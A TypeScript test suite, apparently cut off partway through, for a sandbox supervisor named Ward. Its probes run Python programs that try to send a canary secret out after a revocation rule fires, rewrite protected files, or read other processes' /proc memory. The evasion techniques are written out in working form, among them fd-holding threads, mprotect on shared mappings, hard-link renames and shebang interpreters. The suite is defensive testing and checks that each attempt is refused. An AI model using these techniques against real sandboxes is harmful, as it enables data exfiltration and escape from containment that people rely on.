/**
 * Supervised mode: the policy's dynamic rules (`rules:`), enforced at run time by Ward's
 * supervisor (seccomp user notification) and the egress broker. Each probe adds a rule and a
 * host-side server reached through `network.allow_local` (the one destination probes can
 * really reach), shows the attack's way out working *before* the rule's trigger (so the
 * refusal is the rule's doing, not a dead network), then tries it after. A probe holds only if
 * the attack failed with the expected errno, the server received nothing after the trigger,
 * and Ward recorded the refusal.
 */
import { existsSync, linkSync, mkdirSync, readFileSync, realpathSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { broken, E, error, held, kv, noResult, py, PY_DRAIN, serverPort, startHostServer, st, type HostServer } from '../lib.js';
import type { AuditRecord } from '../../audit/format.js';
import { renderTimeline } from '../../audit/timeline.js';
import type { PolicyOverlay, Probe, ProbeContext, ProbeRun, Verdict } from '../types.js';
import { systemBinary } from '../../hostbin.js';

const group = 'supervised' as const;
const ruleProbe = { group, promise: 'dynamic-rules', mechanism: 'supervisor', expect: 'refused' } as const;
/** Append-only and visible-only files: a filesystem promise the supervisor keeps. */
const fileProbe = { group, promise: 'filesystem', mechanism: 'supervisor', expect: 'refused' } as const;

/** A host server that counts bytes; a secret (the canary) under the workspace's secrets/ and private/. */
const setupWith = (greeting: 'silent' | 'keep-open' | 'end') => async (ctx: ProbeContext) => {
  ctx.state.server = await startHostServer({ port: 0, host: '127.0.0.1' }, greeting);
  for (const d of ['secrets', 'private', 'src']) mkdirSync(path.join(ctx.ws, d), { recursive: true });
  writeFileSync(path.join(ctx.ws, 'secrets', 'token'), `token ${ctx.canary}\n`);
  writeFileSync(path.join(ctx.ws, 'private', 'notes'), `notes ${ctx.canary}\n`);
  writeFileSync(path.join(ctx.ws, 'src', 'main.c'), 'int main(void) { return 0; }\n');
  writeFileSync(path.join(ctx.ws, 'src', 'util.c'), 'int util;\n');
};
const setup = setupWith('silent');
const teardown = (ctx: ProbeContext) => st<HostServer>(ctx, 'server').close();
const port = (ctx: ProbeContext) => serverPort(st<HostServer>(ctx, 'server'));
const overlay = (rules: NonNullable<PolicyOverlay['rules']>) => (ctx: ProbeContext): PolicyOverlay => ({ network: { allow_local: [port(ctx)] }, rules });

/** Python: `out(key, data)` connects to the server, sends `data`, prints key=errno (0: sent). */
const OUT = (ctx: ProbeContext) => `PORT = ${port(ctx)}
def out(key, data=b'x'):
    try:
        s = socket.create_connection(('127.0.0.1', PORT), timeout=5)
        s.sendall(data)
        time.sleep(0.1)
        s.close()
        say(key, 0)
    except OSError as e:
        say(key, e.errno if e.errno is not None else -1)

# Waits for the other side's answer: the broker admits a connection (and counts its connect
# event) before any upstream byte can arrive, and refuses one by closing it. Either way, once
# this returns, the broker has decided, so the next step cannot race its bookkeeping.
def out_answered(key, data=b'x'):
    try:
        s = socket.create_connection(('127.0.0.1', PORT), timeout=5)
        s.sendall(data)
        got = b''
        while True:
            c = s.recv(4096)
            if not c: break
            got += c
        s.close()
        say(key, 0 if got.startswith(b'HOST-SERVICE') else -1)
    except OSError as e:
        say(key, e.errno if e.errno is not None else -1)
`;

/** The server got exactly the bytes sent before the trigger; the rest never left. */
function nothingAfter(ctx: ProbeContext, before: number): Verdict | null {
  const got = st<HostServer>(ctx, 'server').bytes;
  return got > before ? broken(`the server received ${got - before} bytes sent after the rule's trigger`) : null;
}

/** key=0 for the before-step, else the probe cannot tell a rule from a dead path. */
function workedBefore(run: ProbeRun, key: string): Verdict | null {
  const v = kv(run.stdout).get(key);
  if (v === undefined) return noResult(run, key);
  return v === '0' ? null : error(`${key} failed (errno ${v}) before the rule's trigger: the way out was not open, so the rule's refusal cannot be shown`);
}

function refusedWith(run: ProbeRun, keys: string[], errno: number, what: string): Verdict | null {
  const v = kv(run.stdout);
  for (const k of keys) {
    const got = v.get(k);
    if (got === undefined) return noResult(run, k);
    if (got === '0') return broken(`${k} succeeded after the rule's trigger: ${what}`);
    if (Number(got) !== errno) return error(`${k} failed with errno ${got}, not ${errno}: something other than the rule refused it`);
  }
  return null;
}

const recorded = (run: ProbeRun, re: RegExp) => run.denials.some((d) => d.layer === 'supervisor' && re.test(d.detail));

/** The write-revocation probes: reading secrets/ revokes writing src/. */
const writeRevoked: Pick<Probe, 'asi' | 'nist' | 'setup' | 'teardown' | 'policy'> = {
  asi: ['ASI01', 'ASI05'],
  nist: ['AC-3(8)', 'SI-7'],
  setup,
  teardown,
  policy: overlay([{ after: 'read ${WORKSPACE}/secrets/**', revoke: 'write ${WORKSPACE}/src/**' }]),
};

/**
 * A visible-only file `credentials` holding the canary (`text` around it), without an execute bit
 * (with one, under the workspace's execute grant, the run is refused at launch:
 * rule.visible-interpreter). Any visible-only entry also puts every open of the run through Ward.
 */
const visibleCredentials = (text: (canary: string) => string = (c) => `key ${c}\n`): Pick<Probe, 'setup' | 'policy'> => ({
  setup: (ctx) => writeFileSync(path.join(ctx.ws, 'credentials'), text(ctx.canary), { mode: 0o644 }),
  policy: { filesystem: { visible: ['${WORKSPACE}/credentials'] } },
});

/** The visible-only file as a shell script: run as an interpreter, it would print the canary. */
const scriptCredentials = visibleCredentials((c) => `#!/bin/sh\necho key ${c}\n`);

/** A system program, by its real path (what an exec rule is enforced on), or null when missing. */
const realProgram = (name: string): string | null => {
  const found = systemBinary(name);
  return found === null ? null : realpathSync(found);
};

/** Python: `run(key, argv, **kw)` runs a program and prints key=errno of its exec (0: it ran). */
const PY_RUN = `import subprocess
def run(key, argv, **kw):
    attempt(key, lambda: subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw))
`;

/** "After fetching untrusted content, no writes under src/": the shape of the issue's second rule. */
const afterUntrustedNoSrcWrites: Pick<Probe, 'asi' | 'nist' | 'setup' | 'teardown' | 'policy'> = {
  asi: ['ASI01', 'ASI05'],
  nist: ['AC-3(8)', 'SI-7'],
  setup: setupWith('end'),
  teardown,
  policy: (ctx) => overlay([{ after: `connect 127.0.0.1:${port(ctx)}`, revoke: 'write ${WORKSPACE}/src/**' }])(ctx),
};

export const probes: Probe[] = [
  {
    id: 'rule.connect-after-secret',
    ...ruleProbe,
    title: 'after reading a secret, connect out (the process itself, a forked child, a freshly exec\'d program)',
    asi: ['ASI02', 'ASI01'],
    nist: ['AC-4', 'SC-7', 'AC-3(8)'],
    setup,
    teardown,
    policy: overlay([{ after: 'read ${WORKSPACE}/secrets/**', revoke: 'network' }]),
    program: (ctx) =>
      py(`${OUT(ctx)}
out('before')
secret = open('secrets/token', 'rb').read()
out('after', secret)
pid = os.fork()
if pid == 0:
    out('child', secret)
    os._exit(0)
os.waitpid(pid, 0)
os.system("python3 -c 'import socket\\ntry:\\n  socket.create_connection((\\"127.0.0.1\\", %d), timeout=5); print(\\"execd=0\\")\\nexcept OSError as e: print(\\"execd=%%d\\" %% e.errno)'" % PORT)`),
    check: (run, ctx) =>
      workedBefore(run, 'before') ??
      refusedWith(run, ['after', 'child', 'execd'], E.EACCES, 'the secret could leave') ??
      nothingAfter(ctx, 1) ??
      (recorded(run, /network revoked by rules\[0\]/) ? held('connect worked before the read; after it the process, a forked child and an exec\'d program got EACCES from the supervisor, and each refusal was recorded') : error('refused, but no supervisor refusal was recorded')),
  },
  {
    id: 'rule.exfil-on-open-connection',
    ...ruleProbe,
    mechanism: 'egress-broker',
    title: 'open a connection first, then read the secret and send it down the connection already open',
    asi: ['ASI02'],
    nist: ['AC-4', 'SC-7'],
    // The server greets: the greeting's arrival shows the connection was carried before the read.
    setup: setupWith('keep-open'),
    teardown,
    policy: overlay([{ after: 'read ${WORKSPACE}/secrets/**', revoke: 'network' }]),
    program: (ctx) =>
      py(`${OUT(ctx)}
s = socket.create_connection(('127.0.0.1', PORT), timeout=5)
s.sendall(b'x')
say('before', 0 if s.recv(100).startswith(b'HOST-SERVICE') else -1)
secret = open('secrets/token', 'rb').read()
# At once: the moment between the rule firing and a cut that lands later is the attack.
try:
    for i in range(20):
        s.sendall(secret)
        time.sleep(0.05)
    say('sent', 0)
except OSError as e:
    say('sent', e.errno)`),
    check: (run, ctx) => {
      const sent = kv(run.stdout).get('sent');
      if (sent === undefined) return noResult(run, 'sent');
      const open = workedBefore(run, 'before');
      if (open) return open;
      const after = nothingAfter(ctx, 1);
      if (after) return after;
      // The supervisor shuts the connection down before the read returns (the revocation record
      // counts it); the broker's own cut may find it already ended.
      const cutBySupervisor = run.revocations.some((r) => (r.connections_cut ?? 0) > 0);
      const cutByBroker = run.net.some((e) => /^cut: revoked by rules\[0\]/.test(e.note ?? ''));
      if (!cutBySupervisor && !cutByBroker) return error('the server got nothing more, but no record says the connection was cut');
      return held(`the connection opened before the read was cut when the rule fired${cutBySupervisor ? ', before the read returned' : ''} (the sender saw ${sent === '0' ? 'its writes vanish' : `errno ${sent}`}); the record says why`);
    },
  },
  {
    id: 'rule.renamed-secret',
    ...ruleProbe,
    title: 'hide the secret from the rule: hard-link it and rename its folder without reading it, read it under the new name, then connect out',
    asi: ['ASI02'],
    nist: ['AC-4', 'AC-3(8)'],
    setup,
    teardown,
    policy: overlay([{ after: 'read ${WORKSPACE}/secrets/**', revoke: 'network' }]),
    program: (ctx) =>
      py(`${OUT(ctx)}
os.link('secrets/token', 'innocent.txt')
os.rename('secrets', 'notes')
out('before')
a = open('innocent.txt', 'rb').read()
out('after-link', a)
b = open('notes/token', 'rb').read()
out('after-rename', b)`),
    check: (run, ctx) =>
      workedBefore(run, 'before') ??
      refusedWith(run, ['after-link', 'after-rename'], E.EACCES, 'a new name hid the secret from the rule') ??
      nothingAfter(ctx, 1) ??
      held('the secret read under a hard link\'s name fired the rule all the same (the supervisor knows the file by identity); later connects got EACCES'),
  },
  {
    id: 'rule.secret-named-through-link',
    ...ruleProbe,
    title: 'the rule names the secrets through a symlink outside the workspace (vault -> ws/secrets): read the secret by its real name, then connect out',
    asi: ['ASI02'],
    nist: ['AC-4', 'AC-3(8)'],
    // The link lies outside every writable grant (one inside would be refused: the command could re-aim it), so Ward resolves the pattern.
    setup: async (ctx) => {
      await setup(ctx);
      symlinkSync(path.join(ctx.ws, 'secrets'), path.join(ctx.outside, 'vault'));
    },
    teardown,
    policy: (ctx) => overlay([{ after: `read ${ctx.outside}/vault/**`, revoke: 'network' }])(ctx),
    program: (ctx) =>
      py(`${OUT(ctx)}
out('before')
secret = open('secrets/token', 'rb').read()
out('after', secret)`),
    check: (run, ctx) =>
      workedBefore(run, 'before') ??
      refusedWith(run, ['after'], E.EACCES, 'the rule watched the link\'s name, which the kernel never reports, so it never fired') ??
      nothingAfter(ctx, 1) ??
      (recorded(run, /network revoked by rules\[0\]/) ? held('the rule\'s pattern was resolved through the link at plan time, so reading secrets/token (the real path the supervisor sees) fired it; the connect after got EACCES') : error('refused, but no supervisor refusal was recorded')),
  },
  {
    id: 'rule.write-after-untrusted',
    ...ruleProbe,
    title: 'after fetching untrusted content, change the sources: overwrite, create, delete, rename, truncate and plant a symlink under src/',
    ...afterUntrustedNoSrcWrites,
    program: (ctx) =>
      py(`${OUT(ctx)}
attempt('before', lambda: open('src/util.c', 'a').write('// ok\\n'))
out_answered('fetch')
attempt('overwrite', lambda: open('src/main.c', 'w').write('pwned'))
attempt('create', lambda: open('src/evil.c', 'x').write('pwned'))
attempt('delete', lambda: os.unlink('src/util.c'))
attempt('rename', lambda: os.rename('src/main.c', 'src/old.c'))
attempt('truncate', lambda: os.truncate('src/main.c', 0))
attempt('plant-link', lambda: os.symlink('/tmp/payload', 'src/payload.c'))`),
    check: (run, ctx) => {
      const v = workedBefore(run, 'before') ?? workedBefore(run, 'fetch') ?? refusedWith(run, ['overwrite', 'create', 'delete', 'rename', 'truncate', 'plant-link'], E.EACCES, 'the sources were changed after untrusted content came in');
      if (v) return v;
      const main = readFileSync(path.join(ctx.ws, 'src', 'main.c'), 'utf8');
      if (main !== 'int main(void) { return 0; }\n') return broken('src/main.c changed on the host');
      if (!recorded(run, /write .*revoked by rules\[0\] \(after connect/)) return error('refused, but no supervisor refusal was recorded');
      return held('a write before the connection worked; after it every change under src/ got EACCES and the files on the host are unchanged');
    },
  },
  {
    id: 'rule.write-through-earlier-fd',
    ...ruleProbe,
    title: 'keep src/main.c open for writing from before fetching untrusted content, then write the content through that fd',
    ...afterUntrustedNoSrcWrites,
    program: (ctx) =>
      py(`${OUT(ctx)}
rd, wr = os.pipe()
go_r, go_w = os.pipe()
pid = os.fork()
if pid == 0:
    f = os.open('src/main.c', os.O_WRONLY | os.O_APPEND)
    os.write(wr, b'r')
    os.read(go_r, 1)   # once the fetch is answered: the untrusted content is in
    os.write(f, b'pwned')
    os._exit(0)
os.read(rd, 1)
out_answered('fetch')
os.write(go_w, b'g')
_, st = os.waitpid(pid, 0)
say('holder', -9 if os.WIFSIGNALED(st) and os.WTERMSIG(st) == 9 else os.waitstatus_to_exitcode(st))`),
    check: (run, ctx) => {
      const v = workedBefore(run, 'fetch');
      if (v) return v;
      const holder = kv(run.stdout).get('holder');
      if (holder === undefined) return noResult(run, 'holder');
      const main = readFileSync(path.join(ctx.ws, 'src', 'main.c'), 'utf8');
      if (main !== 'int main(void) { return 0; }\n') return broken('src/main.c changed on the host through the fd opened before the revocation');
      if (holder !== '-9') return error(`src/main.c is unchanged, but the holder was not killed (status ${holder})`);
      if (!run.revocations.some((r) => (r.killed ?? []).some((k) => k.file.endsWith('/src/main.c')))) return error('the holder was killed, but the revocation record does not say so');
      return held('the process holding src/main.c open for writing was killed when the rule fired, before the untrusted bytes arrived; the file on the host is unchanged and the record names it');
    },
  },
  {
    id: 'rule.thread-private-fds',
    ...ruleProbe,
    title: 'hold a connection and a write fd where /proc/PID/fd does not show them: in processes whose leader thread has exited; ask for a thread with an fd table of its own',
    asi: ['ASI02', 'ASI05'],
    nist: ['AC-4', 'SC-7', 'SI-7'],
    setup: setupWith('keep-open'),
    teardown,
    policy: overlay([{ after: 'read ${WORKSPACE}/secrets/**', revoke: ['network', 'write ${WORKSPACE}/src/**'] }]),
    program: (ctx) =>
      py(`import threading
PORT = ${port(ctx)}
rd, wr = os.pipe()
def leader_gone():
    # Only once the leader has exited does /proc/PID show nothing of what this thread holds.
    me = os.getpid()
    while True:
        try:
            stat = open('/proc/%d/task/%d/stat' % (me, me)).read()
        except OSError:
            return
        if stat[stat.rindex(')') + 2] in 'ZX':
            return
        time.sleep(0.001)
def holder(kind):
    go_r, go_w = os.pipe()
    pid = os.fork()
    if pid:
        return pid, go_w
    def thread():
        leader_gone()
        if kind == 'conn':
            s = socket.create_connection(('127.0.0.1', PORT), timeout=5)
            s.sendall(b'x')
            os.write(wr, b'1' if s.recv(100).startswith(b'HOST-SERVICE') else b'0')
            data = os.read(go_r, 4096)   # the secret, once its read has returned
            try:
                s.sendall(data)
                s.sendall(data)
            except OSError as e:
                os._exit(100 + e.errno)
            os._exit(0)
        f = os.open('src/main.c', os.O_WRONLY | os.O_APPEND)
        os.write(wr, b'1')
        os.read(go_r, 1)
        os.write(f, b'pwned')
        os._exit(0)
    threading.Thread(target=thread).start()
    sc(60, 0)   # exit(2): the leader thread alone; its thread goes on
kids = {k: holder(k) for k in ('conn', 'writer')}
say('before', 0 if all(os.read(rd, 1) == b'1' for _ in kids) else -1)
# CLONE_THREAD|CLONE_SIGHAND without CLONE_FILES (nor CLONE_VM, so a kernel that gets the call
# answers EINVAL and starts nothing); unshare(CLONE_FILES).
say('clone', sc(56, 0x10000 | 0x800, 0, 0, 0, 0))
say('unshare', sc(272, 0x400))
secret = open('secrets/token', 'rb').read()
os.write(kids['conn'][1], secret)
os.write(kids['writer'][1], b'g')
for k, (pid, _) in kids.items():
    _, st = os.waitpid(pid, 0)
    say(k, -9 if os.WIFSIGNALED(st) and os.WTERMSIG(st) == 9 else os.waitstatus_to_exitcode(st))`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      const open = workedBefore(run, 'before');
      if (open) return open;
      const conn = v.get('conn');
      const writer = v.get('writer');
      if (conn === undefined) return noResult(run, 'conn');
      if (writer === undefined) return noResult(run, 'writer');
      const after = nothingAfter(ctx, 1);
      if (after) return after;
      if (conn === '0') return broken('the connection held by a thread whose leader had exited still carried the secret after the read');
      if (readFileSync(path.join(ctx.ws, 'src', 'main.c'), 'utf8') !== 'int main(void) { return 0; }\n') return broken('src/main.c changed on the host through a write fd held by a thread whose leader had exited');
      // EINVAL: the kernel got the clone (it lacks CLONE_VM), so a real one would have made the thread.
      if (v.get('clone') === String(E.EINVAL)) return broken('clone(CLONE_THREAD) without CLONE_FILES reached the kernel: a thread could get an fd table of its own');
      const refused = refusedWith(run, ['clone', 'unshare'], E.EPERM, 'a thread got an fd table of its own');
      if (refused) return refused;
      if (writer !== '-9') return error(`src/main.c is unchanged, but its holder was not killed (status ${writer})`);
      if (!run.revocations.some((r) => (r.connections_cut ?? 0) > 0)) return error(`the connection failed (status ${conn}), but the supervisor did not cut it`);
      if (!run.revocations.some((r) => (r.killed ?? []).some((k) => k.file.endsWith('/src/main.c')))) return error('the writer was killed, but the revocation record does not say so');
      return held('with the leader gone, the connection and the write fd its thread held were still found (in the thread\'s own /proc entry): the connection was cut and the writer killed when the rule fired; clone without CLONE_FILES and unshare(CLONE_FILES) got EPERM');
    },
  },
  {
    id: 'rule.mprotect-shared-map',
    ...ruleProbe,
    title: 'map src/main.c shared but read-only from an O_RDWR fd and close the fd; after the revocation, mprotect the mapping writable and write the file through it',
    ...writeRevoked,
    program: () =>
      py(`import mmap
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
rd, wr = os.pipe()
def holder(name, mode):
    go_r, go_w = os.pipe()
    pid = os.fork()
    if pid:
        return pid, go_w
    f = os.open(name, mode)
    addr = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, f, 0)
    os.close(f)   # nothing left but the read-only mapping
    os.write(wr, b'r')
    os.read(go_r, 1)
    if libc.mprotect(ctypes.c_void_p(addr), 4096, mmap.PROT_READ | mmap.PROT_WRITE) != 0:
        os._exit(100 + ctypes.get_errno())
    ctypes.memmove(addr, b'pwned', 5)
    libc.msync(ctypes.c_void_p(addr), 4096, 4)
    os._exit(0)
# The control maps util.c from a read-only fd: mprotect can never make that writable.
kids = {'mapped': holder('src/main.c', os.O_RDWR), 'control': holder('src/util.c', os.O_RDONLY)}
for _ in kids: os.read(rd, 1)
open('secrets/token', 'rb').read()
for pid, go in kids.values(): os.write(go, b'g')
for k, (pid, _) in kids.items():
    _, st = os.waitpid(pid, 0)
    say(k, -9 if os.WIFSIGNALED(st) and os.WTERMSIG(st) == 9 else os.waitstatus_to_exitcode(st))`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      const mapped = v.get('mapped');
      if (mapped === undefined) return noResult(run, 'mapped');
      if (readFileSync(path.join(ctx.ws, 'src', 'main.c'), 'utf8') !== 'int main(void) { return 0; }\n') return broken('src/main.c changed on the host through a mapping made writable after the revocation');
      if (mapped !== '-9') return error(`src/main.c is unchanged, but the holder of the mapping was not killed (status ${mapped})`);
      if (v.get('control') !== String(100 + E.EACCES)) return error(`the control (a shared mapping of a read-only fd) was not left to fail its mprotect with EACCES (status ${v.get('control')})`);
      if (!run.revocations.some((r) => (r.killed ?? []).some((k) => k.file.endsWith('/src/main.c') && k.through === 'mapping'))) return error('the holder was killed, but the revocation record does not name the mapping');
      return held('the process holding a read-only shared mapping of src/main.c from an O_RDWR fd (which mprotect could make writable) was killed when the rule fired; a mapping of a read-only fd was left alone');
    },
  },
  {
    id: 'rule.trifecta',
    ...ruleProbe,
    mechanism: 'egress-broker',
    title: 'the lethal trifecta: read private data, then open the way out to the untrusted host',
    asi: ['ASI02', 'ASI01'],
    nist: ['AC-4', 'SC-7'],
    setup,
    teardown,
    policy: (ctx) => overlay([{ after: ['read ${WORKSPACE}/private/**', `connect 127.0.0.1:${port(ctx)}`], revoke: 'network' }])(ctx),
    program: (ctx) =>
      py(`${OUT(ctx)}
notes = open('private/notes', 'rb').read()
out_answered('completing', notes)
out('again', notes)`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      if (v.get('again') === undefined) return noResult(run, 'again');
      const after = nothingAfter(ctx, 0);
      if (after) return after;
      if (v.get('again') !== String(E.EACCES)) return broken(`the connect after both events got ${v.get('again')}, not EACCES`);
      if (!run.net.some((e) => e.verdict === 'deny' && /this connection completed the rule/.test(e.reason ?? ''))) return error('nothing reached the server, but the broker recorded no refusal of the completing connection');
      return held('the connection that completed the rule was refused by the broker before a byte went out; the next connect got EACCES');
    },
  },
  {
    id: 'rule.append-only-rewrite',
    ...fileProbe,
    title: 'rewrite an append-only log: open it for writing, O_RDWR, O_TRUNC, clear O_APPEND, ftruncate, fallocate, truncate, unlink, rename over it, hard-link it',
    asi: ['ASI05', 'ASI06'],
    nist: ['AU-9', 'SI-7'],
    setup: (ctx) => writeFileSync(path.join(ctx.ws, 'audit.log'), 'FIRST LINE\n'),
    policy: { filesystem: { append: ['${WORKSPACE}/audit.log'] } },
    program: () =>
      py(`import fcntl
attempt('append', lambda: open('audit.log', 'a').write('appended\\n'))
attempt('open-w', lambda: open('audit.log', 'w'))
attempt('open-rdwr', lambda: os.open('audit.log', os.O_RDWR | os.O_APPEND))
attempt('open-trunc', lambda: os.open('audit.log', os.O_WRONLY | os.O_APPEND | os.O_TRUNC))
fd = os.open('audit.log', os.O_WRONLY | os.O_APPEND)
attempt('clear-append', lambda: fcntl.fcntl(fd, fcntl.F_SETFL, 0))
attempt('ftruncate', lambda: os.ftruncate(fd, 0))
attempt('fallocate', lambda: os.posix_fallocate(fd, 0, 4096))
attempt('noappend', lambda: os.pwritev(fd, [b'OVERWRITE'], 0, 0x20))
attempt('truncate', lambda: os.truncate('audit.log', 0))
attempt('unlink', lambda: os.unlink('audit.log'))
open('other', 'w').write('other')
attempt('rename-over', lambda: os.rename('other', 'audit.log'))
attempt('link', lambda: os.link('audit.log', 'second-name'))`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      if (v.get('append') === undefined) return noResult(run, 'append');
      if (v.get('append') !== '0') return error(`appending failed (errno ${v.get('append')}): append-only must allow appends`);
      for (const k of ['open-w', 'open-rdwr', 'open-trunc', 'clear-append', 'ftruncate', 'fallocate', 'noappend', 'truncate', 'unlink', 'rename-over', 'link']) {
        const got = v.get(k);
        if (got === undefined) return noResult(run, k);
        if (got === '0') return broken(`${k} succeeded on an append-only file`);
      }
      const text = readFileSync(path.join(ctx.ws, 'audit.log'), 'utf8');
      if (text !== 'FIRST LINE\nappended\n') return broken(`the log on the host is now ${JSON.stringify(text.slice(0, 80))}`);
      if (!recorded(run, /append-only/)) return error('refused, but no supervisor refusal was recorded');
      return held('appending worked; every way to rewrite, shorten, replace or rename the log was refused and its bytes are intact');
    },
  },
  {
    id: 'rule.visible-only-read',
    ...fileProbe,
    title: 'read a visible-only file: directly, through a symlink, through /proc/self/fd after O_PATH, and run it',
    asi: ['ASI02', 'ASI03'],
    nist: ['AC-3', 'AC-6'],
    ...visibleCredentials(),
    program: () =>
      py(`import subprocess
say('size', os.stat('credentials').st_size)
say('listed', 1 if 'credentials' in os.listdir('.') else 0)
attempt('read', lambda: sys.stdout.write(open('credentials').read()))
os.symlink('credentials', 'alias')
attempt('symlink', lambda: sys.stdout.write(open('alias').read()))
p = os.open('credentials', os.O_PATH)
attempt('proc-fd', lambda: sys.stdout.write(open('/proc/self/fd/%d' % p).read()))
attempt('write', lambda: open('credentials', 'a'))
attempt('exec', lambda: subprocess.run(['./credentials'], check=False))`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      if (v.get('size') === undefined) return noResult(run, 'size');
      if (run.stdout.includes(ctx.canary)) return broken('the visible-only file\'s contents reached the output');
      if (v.get('size') === '0' || v.get('listed') !== '1') return error(`stat or listing did not show the file (size ${v.get('size')}, listed ${v.get('listed')}): visible-only must stay visible`);
      const refused = refusedWith(run, ['read', 'symlink', 'proc-fd', 'write', 'exec'], E.EACCES, 'a visible-only file was opened or run');
      if (refused) return refused;
      if (!recorded(run, /visible-only/)) return error('refused, but no supervisor refusal was recorded');
      return held('stat and listing showed the real file; every open (directly, by a symlink, by /proc/self/fd) and the exec got EACCES');
    },
  },
  {
    id: 'rule.controlling-tty',
    ...fileProbe,
    promise: 'syscalls',
    title: "with every open supervised, open /dev/tty (directly, and by reopening an O_PATH fd on it): Ward opens files for the sandbox, and /dev/tty is the opener's terminal",
    asi: ['ASI09'],
    nist: ['SC-39'],
    ...visibleCredentials(),
    program: () =>
      py(`import pty
${PY_DRAIN}attempt('dev_tty', lambda: os.close(os.open('/dev/tty', os.O_RDWR)))
p = os.open('/dev/tty', os.O_PATH)
attempt('reopen', lambda: os.close(os.open('/proc/self/fd/%d' % p, os.O_RDWR)))
# A process that made a pty of its own its controlling terminal: /dev/tty is that pty.
child, master = pty.fork()
if child == 0:
    try:
        fd = os.open('/dev/tty', os.O_RDWR)
        os.write(fd, b'MARK-THROUGH-DEV-TTY\\n')
        say('own_pty', 0)
    except OSError as e:
        say('own_pty', e.errno)
    os._exit(0)
got = drain(master)
os.waitpid(child, 0)
for line in got.decode('latin-1').splitlines():
    if line.startswith('own_pty='): sys.stdout.write(line.strip() + '\\n')
say('marked', 1 if b'MARK-THROUGH-DEV-TTY' in got else 0)`),
    check: (run) => {
      const v = kv(run.stdout);
      for (const k of ['dev_tty', 'reopen', 'own_pty', 'marked']) if (!v.has(k)) return noResult(run, k);
      for (const k of ['dev_tty', 'reopen']) {
        if (v.get(k) === '0') return broken(`/dev/tty (${k}) opened a terminal though the sandbox has none: Ward's own, the user's`);
        if (v.get(k) !== String(E.ENXIO)) return error(`/dev/tty (${k}) failed with errno ${v.get(k)}, not ENXIO (no controlling terminal)`);
      }
      if (v.get('own_pty') === '0' && v.get('marked') !== '1') return broken("in a session with a pty of its own, /dev/tty opened another terminal (Ward's)");
      if (v.get('own_pty') !== '0') return error(`in a session with a pty of its own, /dev/tty failed (errno ${v.get('own_pty')}): the kernel gives that pty`);
      return held("/dev/tty: ENXIO, also by reopening an O_PATH fd, as the kernel answers a process without a terminal; a child with a pty of its own got that pty");
    },
  },
  {
    id: 'rule.proc-other-process',
    ...fileProbe,
    promise: 'secrets',
    title: "with every open supervised, read pid 1's (bwrap's) environment and memory, and a non-dumpable sibling's memory, through /proc",
    asi: ['ASI03'],
    nist: ['AC-3', 'AC-6'],
    ...visibleCredentials(),
    program: () =>
      py(`attempt('environ', lambda: os.read(os.open('/proc/1/environ', os.O_RDONLY), 64))
attempt('mem', lambda: os.close(os.open('/proc/1/mem', os.O_RDONLY)))
attempt('maps', lambda: os.close(os.open('/proc/1/maps', os.O_RDONLY)))
attempt('status', lambda: os.close(os.open('/proc/1/status', os.O_RDONLY)))
r, w = os.pipe()
child = os.fork()
if child == 0:
    libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0: only a tracer with CAP_SYS_PTRACE may read it
    os.close(r); os.write(w, b'x')
    time.sleep(30)  # killed below
    os._exit(0)
os.close(w); os.read(r, 1)
attempt('sibling_mem', lambda: os.close(os.open('/proc/%d/mem' % child, os.O_RDONLY)))
attempt('sibling_environ', lambda: os.close(os.open('/proc/%d/environ' % child, os.O_RDONLY)))
attempt('own_environ', lambda: os.close(os.open('/proc/self/environ', os.O_RDONLY)))
os.kill(child, 9)`),
    check: (run) => {
      const v = kv(run.stdout);
      for (const k of ['environ', 'mem', 'maps', 'status', 'sibling_mem', 'sibling_environ', 'own_environ']) if (!v.has(k)) return noResult(run, k);
      if (v.get('status') !== '0') return error(`/proc/1/status could not be opened (errno ${v.get('status')}): the refusal is wider than the entries the kernel checks`);
      if (v.get('own_environ') !== '0') return error(`the process's own /proc/self/environ could not be opened (errno ${v.get('own_environ')})`);
      const refused = refusedWith(run, ['environ', 'mem', 'maps', 'sibling_mem', 'sibling_environ'], E.EACCES, "another process's environment or memory was opened through Ward");
      if (refused) return refused;
      if (!recorded(run, /another process's \/proc/)) return error('refused, but no supervisor refusal was recorded');
      return held("/proc/1/environ, mem and maps, and a non-dumpable sibling's mem and environ: EACCES, as the kernel answers the sandbox; /proc/1/status and the process's own entries opened");
    },
  },
  {
    id: 'rule.visible-interpreter',
    ...fileProbe,
    title: "run a visible-only file as a script's interpreter (#! names it: the kernel opens it itself, no open or exec of it reaches the supervisor), after adding an execute bit through a hard link made before the run",
    asi: ['ASI02', 'ASI03'],
    nist: ['AC-3', 'AC-6'],
    ...scriptCredentials,
    setup: async (ctx) => {
      await scriptCredentials.setup!(ctx);
      linkSync(path.join(ctx.ws, 'credentials'), path.join(ctx.ws, 'alias'));
      writeFileSync(path.join(ctx.ws, 'run.sh'), `#!${path.join(ctx.ws, 'credentials')}\n`, { mode: 0o755 });
    },
    program: () =>
      py(`import subprocess
def run():
    r = subprocess.run(['./run.sh'], capture_output=True)
    sys.stdout.write((r.stdout + r.stderr).decode(errors='replace'))
attempt('exec_before', run)
attempt('chmod_alias', lambda: os.chmod('alias', 0o755))
attempt('chmod_own', lambda: os.chmod('credentials', 0o755))
attempt('exec_after', run)`),
    check: (run, ctx) => {
      const v = kv(run.stdout);
      for (const k of ['exec_before', 'chmod_alias', 'chmod_own', 'exec_after']) if (!v.has(k)) return noResult(run, k);
      if (run.stdout.includes(ctx.canary)) return broken("the visible-only file ran as a script's interpreter");
      if ((statSync(path.join(ctx.ws, 'credentials')).mode & 0o111) !== 0) return broken('the visible-only file got an execute bit');
      if (v.get('chmod_alias') !== String(E.EACCES)) return v.get('chmod_alias') === '0' ? broken('chmod +x through a hard link of the visible-only file succeeded') : error(`chmod through the hard link failed with errno ${v.get('chmod_alias')}, not EACCES`);
      if (v.get('chmod_own') === '0') return broken('chmod +x of the visible-only file succeeded');
